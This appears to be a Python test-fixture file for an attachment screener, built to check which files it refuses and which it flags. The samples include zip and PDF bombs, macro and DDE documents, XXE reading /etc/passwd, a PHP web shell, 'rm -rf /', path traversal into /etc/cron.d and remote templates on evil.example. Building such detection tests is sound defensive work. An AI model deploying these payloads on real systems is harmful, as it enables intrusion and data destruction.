"""Files that mean harm or hide something: each with the name it comes under and what we say."""

# A case a line and a part a line read best, however long.
# ruff: noqa: E501

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.attachments.making import (
    APP,
    CORE,
    W,
    compound,
    docx,
    locked_pdf,
    old_word,
    packed,
    pdf,
    photo,
    picture,
    pptx,
    relations,
    run,
    sound,
    xlsx,
)  # fmt: skip

MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\0" * 50 + b"This program"
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 57
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefg", "bcdefgh", strict=True))
    + "]>"
)
DOCUMENT = f'<w:document xmlns:w="{W}"><w:body/></w:document>'
NATIVE = "\x01Ole10Native".encode("utf-16-le")
CHANGED = (
    f'<w:ins w:author="王起草">{run("同意拨付")}</w:ins>'
    '<w:del w:author="王起草"><w:r><w:delText>不同意拨付三百万元</w:delText></w:r></w:del>'
)


@dataclass(frozen=True)
class Refused:
    """A file that is not taken: its name, how it is made, the code, words of the sentence."""

    name: str
    make: Callable[[], bytes]
    code: str
    says: str


@dataclass(frozen=True)
class Taken:
    """A file that is taken, with what the reviewer is shown of it."""

    name: str
    make: Callable[[], bytes]
    kind: str
    traces: tuple[tuple[str, str], ...]


def bomb(part: str = "word/document.xml", mb: int = 200) -> bytes:
    """A package of a few hundred KB that unpacks to hundreds of MB."""
    return packed({"[Content_Types].xml": "<Types/>", part: b"\0" * (mb << 20)})


def huge_picture() -> bytes:
    """A PNG whose header promises four thousand million pixels."""
    body = bytearray(picture("PNG"))
    body[16:24] = struct.pack(">II", 65_000, 65_000)
    body[29:33] = struct.pack(">I", zlib.crc32(bytes(body[12:29])))
    return bytes(body)


def locked_zip() -> bytes:
    """A package whose parts are marked as encrypted."""
    body = bytearray(docx())
    for mark, place in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = body.find(mark)
        while at >= 0:
            body[at + place] |= 1
            at = body.find(mark, at + 4)
    return bytes(body)


def nested() -> bytes:
    inner = packed({"a.zip": packed({"b.txt": "x"})})
    return packed({"inner.zip": inner})


def packed_script() -> bytes:
    """A PDF whose script stands in a packed stream of objects, its name spelt in hex."""
    hidden = b"9 0 << /S /J#61vaScript /JS (app.alert(1)) >>"
    body = zlib.compress(hidden)
    return pdf() + (
        b"7 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        + str(len(body)).encode() + b" >>\nstream\n" + body + b"\nendstream\nendobj\n%%EOF\n"
    )  # fmt: skip


def stream_bomb() -> bytes:
    """A PDF with a stream that unpacks to 300 MB."""
    body = zlib.compress(b"\0" * (300 << 20), 9)
    return pdf() + (
        b"7 0 obj\n<< /Filter /FlateDecode /Length " + str(len(body)).encode()
        + b" >>\nstream\n" + body + b"\nendstream\nendobj\n%%EOF\n"
    )  # fmt: skip


def sheet_bytes(kind: int) -> bytes:
    """A BIFF stream of one sheet of this kind: 0 cells, 1 macros."""
    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 5, 0, 0, 0, 0)
    name = b"\x05\x00Macro"
    bound = struct.pack("<HHIBB", 0x85, 6 + len(name), 0, 0, kind) + name
    return bof + bound + struct.pack("<HH", 0x0A, 0)


def locked_sheet() -> bytes:
    return struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 5, 0, 0, 0, 0) + struct.pack(
        "<HHHHH", 0x2F, 6, 1, 1, 1
    )


def with_member(name: str, body: bytes | str = b"x") -> bytes:
    return docx() if not name else _added(docx(), name, body)


def _added(package: bytes, name: str, body: bytes | str) -> bytes:
    out = io.BytesIO(package)
    with zipfile.ZipFile(out, "a") as opened:
        opened.writestr(name, body)
    return out.getvalue()


REFUSED: dict[str, Refused] = {
    "nothing": Refused("a.jpg", lambda: b"", "empty", "0 字节"),
    "program as picture": Refused("照片.jpg", lambda: MZ, "program", "扩展名写的是 .jpg，内容是可执行程序"),
    "linux program as pdf": Refused("通知.pdf", lambda: ELF, "program", "内容是可执行程序"),
    "shell script as text": Refused("a.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "program", "脚本"),
    "batch file as text": Refused("a.txt", lambda: b"@echo off\r\ndel *.*\r\n", "program", "脚本"),
    "script by javascript": Refused("a.txt", lambda: b"function x(){\n}\nvar a = eval(x)", "program", "脚本"),
    "php as picture": Refused("a.png", lambda: b"<?php system($_GET[0]);", "program", "脚本"),
    "shortcut as document": Refused("合同.docx", lambda: b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60, "program", "快捷方式"),
    "svg with script": Refused("图.svg", lambda: b"<svg xmlns='x'><script>alert(1)</script></svg>", "svg", "SVG"),
    "svg as png": Refused("图.png", lambda: b"<?xml version='1.0'?><svg onload='x()'/>", "svg", "扩展名写的是 .png，内容是SVG 图片"),
    "page as document": Refused("a.doc", lambda: b"<html><body onload=x()></html>", "markup", "网页"),
    "page in utf-16": Refused("a.txt", lambda: "<html><script>1</script>".encode("utf-16"), "markup", "网页"),
    "xml": Refused("a.txt", lambda: (XXE + "<a>&e;</a>").encode(), "foreign", "XML"),
    "mhtml": Refused("a.doc", lambda: b"MIME-Version: 1.0\nContent-Type: x\n", "foreign", "邮件"),
    "rtf": Refused("a.doc", lambda: b"{\\rtf1 {\\object}}", "foreign", "RTF"),
    "zip": Refused("材料.zip", lambda: packed({"a.txt": "x"}), "archive", "ZIP 压缩包"),
    "zip as document": Refused("材料.docx", lambda: packed({"a.txt": "x"}), "archive", "扩展名写的是 .docx，内容是ZIP"),
    "nested zips": Refused("材料.zip", nested, "archive", "里面还有压缩包"),
    "rar": Refused("a.rar", lambda: b"Rar!\x1a\x07\x01\x00" + b"\0" * 40, "archive", "RAR"),
    "tar": Refused("a.txt", lambda: b"a.txt".ljust(257, b"\0") + b"ustar\x0000" + b"\0" * 300, "archive", "tar"),
    "android package": Refused("a.docx", lambda: packed({"AndroidManifest.xml": "x"}), "program", "安装包"),
    "zip bomb": Refused("a.docx", bomb, "bomb", "压缩炸弹"),
    "quoted bomb of entries": Refused("a.docx", lambda: packed({f"{n}": b"" for n in range(3_200)}), "bomb", "压缩炸弹"),
    "macro document": Refused("a.docm", lambda: with_member("word/vbaProject.bin"), "macro", "带有宏"),
    "macro under docx": Refused("a.docx", lambda: with_member("word/vbaProject.bin"), "macro", "带有宏"),
    "macro sheet": Refused("a.xlsx", lambda: xlsx(xl__macrosheets__sheet1_xml="<x/>"), "macro", "带有宏"),
    "old word with macros": Refused("a.doc", lambda: compound({**old_word(), "Macros": b"x"}), "macro", "带有宏"),
    "old sheet of macros": Refused("a.xls", lambda: compound({"Workbook": sheet_bytes(1)}), "macro", "带有宏"),
    "activex": Refused("a.docx", lambda: with_member("word/activeX/activeX1.bin"), "control", "ActiveX"),
    "packed program in word": Refused("a.docx", lambda: with_member("word/embeddings/oleObject1.bin", NATIVE), "object", "文件对象"),
    "page in word": Refused("a.docx", lambda: with_member("word/afchunk.htm", "<html>"), "object", "文件对象"),
    "old word with object": Refused("a.doc", lambda: compound({**old_word(), "\x01Ole10Native": b"x"}), "object", "文件对象"),
    "remote template": Refused("a.docx", lambda: docx(word___rels__settings_xml_rels=relations("attachedTemplate", "http://evil.example/t.dotm")), "remote", "外部地址"),
    "remote picture": Refused("a.docx", lambda: docx(word___rels__document_xml_rels=relations("image", "http://evil.example/i.png")), "remote", "外部地址"),
    "xxe in word": Refused("a.docx", lambda: packed({"[Content_Types].xml": "<Types/>", "word/document.xml": XXE + DOCUMENT}), "entities", "实体"),
    "laughs in sheet": Refused("a.xlsx", lambda: packed({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": LAUGHS + "<workbook>&h;</workbook>"}), "entities", "实体"),
    "dde in word": Refused("a.docx", lambda: docx("<w:r><w:instrText>DDEAUTO cmd.exe</w:instrText></w:r>"), "command", "DDE"),
    "dde in csv": Refused("a.csv", lambda: b"a,b\n=cmd|'/C calc'!A0,1\n", "command", "DDE"),
    "locked pdf": Refused("a.pdf", locked_pdf, "password", "打开密码"),
    "locked word": Refused("a.docx", lambda: compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), "password", "打开密码"),
    "locked old word": Refused("a.doc", lambda: compound(old_word(flags=0x0100)), "password", "打开密码"),
    "locked old sheet": Refused("a.xls", lambda: compound({"Workbook": locked_sheet()}), "password", "打开密码"),
    "locked zip": Refused("a.docx", locked_zip, "password", "打开密码"),
    "pdf and zip": Refused("a.pdf", lambda: pdf() + packed({"a.txt": "x"}), "polyglot", "同时是PDF 文件和ZIP"),
    "jpeg and zip": Refused("a.jpg", lambda: picture() + packed({"a.txt": "x"}), "polyglot", "ZIP"),
    "png and program": Refused("a.png", lambda: picture("PNG") + MZ, "polyglot", "可执行程序"),
    "gif and javascript": Refused("a.gif", lambda: b"GIF89a/*" + picture("GIF")[8:] + b"*/=1;alert(1)", "polyglot", "JavaScript"),
    "jpeg with page": Refused("a.jpg", lambda: picture(comment=b"<script>alert(1)</script>"), "polyglot", "带脚本的网页"),
    "pdf in picture": Refused("a.jpg", lambda: picture(comment=b"%PDF-1.7"), "polyglot", "PDF"),
    "rubbish before pdf": Refused("a.pdf", lambda: b"\0rubbish\n" + pdf(), "polyglot", "前面附加"),
    "rubbish before zip": Refused("a.docx", lambda: picture() + docx(), "polyglot", "ZIP"),
    "zip with comment": Refused("a.docx", lambda: packed({"[Content_Types].xml": "x", "word/document.xml": "x"}, comment=b"MZ"), "polyglot", "附加"),
    "huge picture": Refused("a.png", huge_picture, "pixels", "65000 × 65000"),
    "cut picture": Refused("a.jpg", lambda: photo()[:900], "corrupt", "已损坏"),
    "cut pdf": Refused("a.pdf", lambda: b"%PDF-1.7\n1 0 obj\n<<", "corrupt", "已损坏"),
    "cut document": Refused("a.docx", lambda: docx()[:200], "corrupt", "已损坏"),
    "path in package": Refused("a.docx", lambda: with_member("../../etc/cron.d/x"), "corrupt", "已损坏"),
    "pdf stream bomb": Refused("a.pdf", stream_bomb, "bomb", "压缩炸弹"),
    "heic": Refused("a.heic", lambda: b"\0\0\0\x18ftypheic" + b"\0" * 40, "heic", "兼容性最佳"),
    "video": Refused("a.mp4", lambda: b"\0\0\0\x18ftypisom" + b"\0" * 40, "foreign", "视频"),
    "noise": Refused("a.pdf", lambda: bytes(range(1, 256)) * 8, "unknown", "认不出"),
    "picture named as program": Refused("照片.jpg.exe", picture, "starts", ".exe"),
    "name turned round": Refused("照片\u202egpj.exe", picture, "starts", ".exe"),
    "private key": Refused("a.txt", lambda: b"-----BEGIN " + b"PRIVATE KEY-----\n", "foreign", "密钥"),
}  # fmt: skip

TAKEN: dict[str, Taken] = {
    "photo with place": Taken("现场.jpg", photo, "jpg", (("position", "30.26"), ("position", "120.15"), ("camera", "Phone 9"), ("author", "Chen Shiyang"))),
    "png with words": Taken("a.png", lambda: _noted(), "png", (("author", "陈试样"),)),
    "tracked changes": Taken("a.docx", lambda: docx(CHANGED), "docx", (("deleted", "不同意拨付三百万元"), ("inserted", "同意拨付"))),
    "hidden words": Taken("a.docx", lambda: docx(run("内部底价", look="<w:vanish/>")), "docx", (("hidden_text", "内部底价"),)),
    "authors": Taken("a.docx", lambda: docx(docProps__core_xml=CORE, docProps__app_xml=APP), "docx", (("author", "王起草"), ("saved_by", "李修改"), ("company", "示范公司"))),
    "comments": Taken("a.docx", lambda: docx(word__comments_xml=f'<w:comments xmlns:w="{W}"><w:comment w:author="赵批"><w:p>{run("先别发")}</w:p></w:comment></w:comments>'), "docx", (("comment", "先别发"),)),
    "workbook in word": Taken("a.docx", lambda: with_member("word/embeddings/book.xlsx", xlsx()), "docx", (("embedded", "book.xlsx"),)),
    "photo in word": Taken("a.docx", lambda: with_member("word/media/image1.jpg", photo()), "docx", (("position", "30.26"),)),
    "hidden sheet": Taken("a.xlsx", lambda: xlsx(sheets='<sheet name="明细"/><sheet name="底稿" state="veryHidden"/>'), "xlsx", (("hidden_sheet", "底稿"),)),
    "hidden rows": Taken("a.xlsx", lambda: xlsx('<row hidden="1"><c><v>7</v></c></row>'), "xlsx", (("hidden_rows", "明细"),)),
    "hidden slide": Taken("a.pptx", lambda: pptx('show="0"'), "pptx", (("hidden_slide", "第 1 页"),)),
    "pdf with script": Taken("a.pdf", lambda: pdf("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), "pdf", (("script", "脚本"),)),
    "pdf with packed script": Taken("a.pdf", packed_script, "pdf", (("script", "脚本"),)),
    "pdf that launches": Taken("a.pdf", lambda: pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"), "pdf", (("action", "启动程序"),)),
    "pdf with file": Taken("a.pdf", lambda: pdf("/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>", "<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"), "pdf", (("embedded", ""),)),
    "pdf with layers": Taken("a.pdf", lambda: pdf("/OCProperties << /OCGs [6 0 R] /D << /OFF [6 0 R] >> >>", "<< /Type /OCG /Name (draft) >>"), "pdf", (("layer", "图层"),)),
    "pdf with note": Taken("a.pdf", lambda: pdf("", "<< /Type /Annot /Subtype /Text /Rect [1 1 9 9] /Contents (not yet) >>", page="/Annots [6 0 R]"), "pdf", (("annotation", "not yet"),)),
    "pdf with author": Taken("a.pdf", lambda: pdf(info="/Author (Wang)"), "pdf", (("author", "Wang"),)),
    "picture with a tail": Taken("a.png", lambda: picture("PNG") + b"secret tail of bytes", "png", (("trailing", "20 字节"),)),
    "old word": Taken("a.doc", lambda: compound(old_word()), "doc", (("unsure", "旧格式"),)),
    "sound": Taken("a.wav", sound, "wav", (("unsure", "听过"),)),
}  # fmt: skip


def _noted() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Author", "陈试样")
    return picture("PNG", pnginfo=info)
